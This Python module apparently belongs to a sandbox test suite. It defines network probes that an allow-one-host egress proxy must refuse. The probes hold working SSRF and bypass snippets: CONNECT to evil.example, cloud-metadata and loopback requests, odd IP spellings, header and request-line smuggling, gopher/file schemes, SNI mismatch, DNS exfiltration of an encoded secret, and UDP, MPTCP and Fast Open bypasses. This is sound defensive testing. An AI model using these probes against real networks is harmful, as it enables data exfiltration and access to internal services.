"""Attacks over the network where one host is allowed: through the proxy, and past it.

The world's port 3128 is a proxy that lets everything through: what these ask of it, the
sandbox's must refuse.
"""

from __future__ import annotations

from attack_calling import QUERY, TRY
from attack_probe import Probe

GRANTED = ("api.example:443",)
# Say something to the proxy, and print all that comes back.
_ASK = """
def ask(*lines, port=3128):
    try:
        with socket.create_connection(("127.0.0.1", port), 2) as s:
            s.settimeout(1.5)
            for line in lines:
                s.sendall(line if isinstance(line, bytes) else line.encode())
                try:
                    print(s.recv(65536))
                except OSError as error:
                    print(error)
    except OSError as error:
        print(error)


def connect(*targets):
    for target in targets:
        ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n", "hello\\n")
"""
# A TLS ClientHello that names `host`.
_HELLO = """
def hello(host):
    name = host.encode()
    sni = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    more = sni + bytes.fromhex("000a00040002001d 000d000400020403 002b0003020304")
    body = b"\\3\\3" + bytes(32) + b"\\0" + bytes.fromhex("00021301 0100")
    body += struct.pack("!H", len(more)) + more
    shake = b"\\1" + struct.pack("!L", len(body))[1:] + body
    return b"\\x16\\3\\1" + struct.pack("!H", len(shake)) + shake
"""


def _proxied(name: str, why: str, source: str, kind: str = "tcp") -> Probe:
    return Probe(name, kind, why, _ASK + _HELLO + source, net=GRANTED)


def _past(name: str, kind: str, why: str, source: str, **more: object) -> Probe:
    return Probe(name, kind, why, TRY + QUERY + source, net=GRANTED, **more)


_PROXIED = (
    _proxied(
        "proxy-asked-for-another-host",
        "Any other host is where the secrets go.",
        'connect("other.example:443", "evil.example:443", "example:443", "xapi.example:443")\n',
    ),
    _proxied(
        "proxy-asked-for-another-port",
        "Another port of an allowed host is another service.",
        'connect("api.example:80", "api.example:22", "api.example:65979", "api.example:0443443")\n',
    ),
    _proxied(
        "proxy-asked-for-an-address",
        "An address written out passes by rules for names.",
        'connect("93.184.216.36:443", "127.0.0.1:5432", "[::1]:5432", "[2001:db8::1]:443")\n',
        kind="ipv6",
    ),
    _proxied(
        "proxy-asked-for-odd-addresses",
        "An address has many spellings.",
        """
for spelling in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "127.0.0.1."):
    connect(spelling + ":5432")
""",
    ),
    _proxied(
        "proxy-asked-for-mapped-addresses",
        "IPv4 can be written as IPv6.",
        'connect("[::ffff:127.0.0.1]:5432", "[::ffff:a9fe:a9fe]:80", "[64:ff9b::7f00:1]:5432")\n',
        kind="ipv6",
    ),
    _proxied(
        "proxy-asked-for-the-metadata",
        "The proxy stands where the metadata service can be reached.",
        """
connect("169.254.169.254:80", "inner.example:80", "2852039166:80")
ask("GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")
""",
        kind="metadata",
    ),
    _proxied(
        "proxy-asked-for-the-host",
        "The proxy stands on the host's loopback.",
        """
connect("localhost:5432", "localhost:443", "ip6-localhost:443", "localhost.:443")
ask("GET http://localhost:8080/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
""",
    ),
    _proxied(
        "proxy-asked-with-odd-names",
        "A name with a byte too many is one host to the rule and another to the resolver.",
        """
for between in ("\\0.", "%2e", ".", "@", "#", "?", ":443@", "/", "\\\\", " ", "%00."):
    connect(f"api.example{between}evil.example:443", f"evil.example{between}api.example:443")
""",
    ),
    _proxied(
        "proxy-asked-in-absolute-form",
        "A plain request is sent wherever its address says.",
        """
for where in ("http://other.example/", "http://api.example@other.example/", "http://api.example:80/"):
    ask(f"GET {where} HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n")
""",
    ),
    _proxied(
        "proxy-asked-by-the-host-header",
        "The line names one host and the header another.",
        """
ask("GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n")
ask("CONNECT other.example:443 HTTP/1.1\\r\\nHost: api.example:443\\r\\n\\r\\n", "hello\\n")
""",
    ),
    _proxied(
        "proxy-asked-with-two-lines",
        "A line broken with a bare character hides a second request.",
        """
ask("CONNECT api.example:443\\nCONNECT other.example:443 HTTP/1.1\\r\\n\\r\\n", "hello\\n")
ask("CONNECT other.example:443 api.example:443 HTTP/1.1\\r\\n\\r\\n", "hello\\n")
ask("CONNECT\\tother.example:443 HTTP/1.1\\r\\n\\r\\n", "hello\\n")
""",
    ),
    _proxied(
        "proxy-asked-for-another-scheme",
        "Other schemes read files and speak other protocols.",
        """
for where in ("file:///etc/app.conf", "ftp://other.example/", "gopher://127.0.0.1:6379/_x"):
    ask(f"GET {where} HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n")
""",
    ),
    _proxied(
        "proxy-asked-a-second-time",
        "A second request on a connection that is trusted goes unchecked.",
        """
first = "GET http://api.example:443/ HTTP/1.1\\r\\nHost: api.example:443\\r\\n\\r\\n"
with socket.create_connection(("127.0.0.1", 3128), 2) as s:
    s.sendall((first + first.replace("api.example:443", "other.example:80")).encode())
    time.sleep(0.5)
""",
    ),
    _proxied(
        "proxy-resolves-a-secret",
        "A proxy that looks a name up before it refuses has told the secret already.",
        'connect("c2VjcmV0.evil.example:443", "c2VjcmV0.api.example:443")\n',
        kind="dns",
    ),
    _proxied(
        "tunnel-with-another-name",
        "Behind one address of a network of servers are the sites of everybody.",
        """
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", hello("other.example"))
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", hello("127.0.0.1"))
""",
    ),
    _proxied(
        "tunnel-without-a-name",
        "A tunnel that carries anything but TLS for the host carries anything.",
        """
asked = "CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n"
ask(asked, "SSH-2.0-evil\\r\\n")
ask(asked, "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n")
ask(asked, hello("api.example")[:40], b"hello\\n")
""",
    ),
    _proxied(
        "tunnel-to-mail",
        "A proxy that tunnels to port 25 sends mail for anybody.",
        'connect("api.example:25", "other.example:25")\n',
    ),
)

_PAST = (
    _past(
        "past-the-proxy-over-tcp",
        "tcp",
        "A proxy that a guest need not use is none.",
        "each(tcp, ('93.184.216.34', 443), ('93.184.216.36', 443), ('127.0.0.1', 5432))\n",
    ),
    _past(
        "past-the-proxy-by-its-port",
        "tcp",
        "A rule that allows the proxy's port allows it on every machine.",
        """
for address in ("93.184.216.36", "127.0.0.2", "::1", "10.0.2.2"):
    each(tcp, (address, 3128))
""",
    ),
    _past(
        "past-the-proxy-over-udp",
        "udp",
        "A proxy for TCP says nothing of datagrams.",
        "each(udp, ('93.184.216.34', 443), ('127.0.0.1', 9999), ('93.184.216.36', 3128))\n",
    ),
    _past(
        "past-the-proxy-over-dns",
        "dns",
        "A guest that may reach one host must not ask name servers itself.",
        "s = socket.socket(2, socket.SOCK_DGRAM)\ns.sendto(query(), ('127.0.0.1', 53))\n",
    ),
    _past(
        "past-the-proxy-over-mptcp",
        "mptcp",
        "Landlock's rules for ports know TCP alone.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.connect(("93.184.216.36", 443))
""",
    ),
    _past(
        "past-the-proxy-by-fast-open",
        "fast-open",
        "A connection that is never connected passes by rules for connecting.",
        """
s = socket.socket()
s.sendto(b"hello", socket.MSG_FASTOPEN, ("93.184.216.36", 443))
""",
    ),
    _past(
        "past-the-proxy-by-its-descriptor",
        "tcp",
        "The listening socket that was passed out may have been left inside, to be taken over.",
        """
try:
    taken = socket.create_server(("127.0.0.1", 3128), reuse_port=True)
except OSError as error:
    print(error)
each(tcp, ("93.184.216.36", 3128))
for number in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(number))
        s.accept()
        got()
    except OSError:
        pass
""",
    ),
)

PROBES = (*_PROXIED, *_PAST)
